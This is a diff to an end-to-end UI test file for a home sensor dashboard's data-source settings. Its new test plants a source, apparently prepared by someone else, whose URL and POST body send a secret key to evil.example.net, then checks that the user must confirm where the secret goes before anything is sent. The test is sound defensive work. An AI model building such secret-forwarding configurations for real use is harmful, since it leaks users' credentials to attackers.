@@ -992,7 +992,7 @@ async function sourceAsked() {
   assert.deepEqual(played.last("PUT", "/sources/remo"), { kind: "remo", secrets: { token: "right" }, rooms: { a1: { room: "room-a1", name: "リビング" }, b2: { room: "office" } } });
   await page.locator("#source-remo").getByText("waits for its first answer").waitFor();
   await home.ask("POST", "/readings", [{ device_id: "a1", room: "room-a1", temperature: 21.4 }, { device_id: "source:remo", room: "remo", failing: 0 }]);
-  played.data[0].state = { state: "ok", last_success: new Date().toISOString(), failing_since: null, error: null, next: new Date(Date.now() + 60_000).toISOString(), requests_today: 2 };
+  played.data[0].state = { state: "ok", every: "1m", last_success: new Date().toISOString(), failing_since: null, error: null, next: new Date(Date.now() + 60_000).toISOString(), requests_today: 2 };
   await page.getByText("Reading received").waitFor();
   assert.match(await text(page, "#source-remo"), /Nature Remo works[\s\S]*2 requests today\.[\s\S]*a1 Temperature 21\.4 °C/);
   await page.screenshot({ path: join(screenshots, "sources-card-1280.png"), fullPage: true });
@@ -1124,15 +1124,48 @@ async function otherKinds(home, played) {
   await page.getByRole("button", { name: "Save", exact: true }).click();
   await page.locator("#source-pump").waitFor();
   assert.deepEqual(played.last("PUT", "/sources/pump"), { kind: "json", url: "https://api.example.org/v1/pump", headers: { "x-api-key": "{pump_key}", accept: "application/json" }, secrets: { pump_key: "k-1" }, metrics: { temperature: "/flow/tempIn" }, rooms: {} });
+  await preparedByAnother(home, played, page);
   page.problems = page.problems.filter((it) => !/400/.test(it));
   unproblematic(page);
   await page.context().close();
 }
 
+/** Who types a secret into a source that somebody else may have prepared sees where it goes, and says so, before it goes. */
+async function preparedByAnother(home, played, page) {
+  const pump = played.data.find(({ id }) => id === "pump");
+  const evil = { ...pump, url: "https://evil.example.net/v1?k={pump_key}", method: "POST", body: { echo: "{pump_key}" }, time: "/echo", on: false, lacks_secrets: true };
+  played.data = played.data.map((source) => source === pump ? evil : source);
+  await show(page, home.url, "connect?half=asks");
+  await page.getByRole("button", { name: "Edit Any address with JSON" }).click();
+  const secret = page.getByLabel("Secret pump_key");
+  await secret.waitFor();
+  assert.deepEqual([await secret.getAttribute("placeholder"), await secret.evaluate((input) => input.required)], [null, true], "a missing secret is not unchanged");
+  assert.match(await text(page, "main"), /method: "POST"[\s\S]*body: \{"echo":"\{pump_key\}"\}[\s\S]*time: "\/echo"[\s\S]*metrics: /);
+
+  const sent = played.sent.length;
+  const sure = page.getByLabel("The secret goes to evil.example.net");
+  assert.equal(await sure.count(), 0);
+  await secret.fill("k-2");
+  await sure.waitFor();
+  await examined(page, "where a secret goes");
+  await page.screenshot({ path: join(screenshots, "sources-prepared-1280.png"), fullPage: true });
+  await page.getByRole("button", { name: "Test" }).click();
+  assert.equal(played.sent.length, sent, "nothing is sent before it is confirmed");
+  await sure.check();
+  await page.getByLabel("Address that answers JSON").fill("https://api.example.org/v1/pump?k={pump_key}");
+  const right = page.getByLabel("The secret goes to api.example.org");
+  assert.equal(await right.isChecked(), false, "another address is confirmed anew");
+  await right.check();
+  await page.getByRole("button", { name: "Test" }).click();
+  await page.getByLabel("/flow/tempIn: 31.5").waitFor();
+  assert.deepEqual([played.last("POST", "/test").url, played.last("POST", "/test").secrets], ["https://api.example.org/v1/pump?k={pump_key}", { pump_key: "k-2" }]);
+  played.data = played.data.map((source) => source === evil ? pump : source);
+}
+
 /** Who may read only sees cards, and on a small phone everything fits. */
 async function forReaders(home, played) {
-  played.data[0].state = { state: "failing", last_success: "2026-11-28T10:00:00Z", failing_since: "2026-11-29T10:00:00Z", error: "Open-Meteo has no more requests for this address today.", next: new Date(Date.now() + 3_600_000).toISOString(), requests_today: 24 };
-  const restored = { state: "waiting", error: "its secret for api.example.org is missing (pump_key)", requests_today: 0 };
+  played.data[0].state = { state: "failing", every: "1h", last_success: "2026-11-28T10:00:00Z", failing_since: "2026-11-29T10:00:00Z", error: "Open-Meteo has no more requests for this address today.", next: new Date(Date.now() + 3_600_000).toISOString(), requests_today: 24 };
+  const restored = { state: "waiting", every: "5m", error: "its secret for api.example.org is missing (pump_key)", requests_today: 0 };
   Object.assign(played.data[1], { on: false, state: restored });
   played.mayEdit = false;
   for (const width of [320, 390]) {
